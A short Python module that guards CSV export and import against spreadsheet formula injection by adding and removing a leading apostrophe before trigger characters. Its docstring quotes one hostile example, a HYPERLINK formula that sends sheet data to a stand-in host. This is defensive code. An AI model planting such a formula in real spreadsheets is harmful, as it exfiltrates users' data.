"""CSV cells a spreadsheet will not run: quotes come from hostile pages too.

A cell starting with `=`, `+`, `-`, `@`, a tab or a carriage return is a formula to Excel,
LibreOffice and Google Sheets (`=HYPERLINK("http://evil.example/?x="&A1,"click")` sends the
sheet's data away). OWASP's advice: write such a cell with a leading `'`, which spreadsheets
show as text. kb's CSV import undoes exactly what kb's export added, so the round trip holds:
a value that itself starts with quotes before a trigger gets one more quote, and loses one.
"""

from __future__ import annotations

TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


def protect(value: str) -> str:
    """The cell as a spreadsheet shows it as text."""
    return "'" + value if value.lstrip("'").startswith(TRIGGERS) else value


def unprotect(value: str) -> str:
    """The value `protect` was given."""
    return value[1:] if value.startswith("'") and value.lstrip("'").startswith(TRIGGERS) \
        else value
